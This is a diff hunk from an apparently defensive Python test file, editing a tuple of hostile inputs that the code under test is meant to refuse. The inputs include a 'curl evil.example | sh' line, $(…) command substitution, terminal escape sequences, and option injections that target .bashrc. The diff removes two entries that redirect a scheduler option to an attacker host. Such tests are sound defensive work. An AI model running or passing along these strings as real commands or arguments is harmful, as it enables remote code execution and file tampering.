@@ -263,8 +263,7 @@ def test_arrays_that_do_not_belong_together_are_refused(path, member, array):
 HOSTILE = (
     *("x.csv; curl evil.example | sh", "$(evil)", "'x", "'x\n'", "'x\x1b[201~'", "x.csv --report /home/me/.bashrc"),
     *("x.csv --report=.bashrc", "--save x.csv y.csv", "x.csv --weights w.csv", "x.csv --verdicts v.csv", "x --keep y"),
-    *("x.csv --scheduler tcp://evil.example:8786", "x.csv --scheduler=tcp://evil.example:8786", "x.csv; ~/evil"),
-    "~/$(evil)",
+    *("x.csv; ~/evil", "~/$(evil)"),
 )
 
 
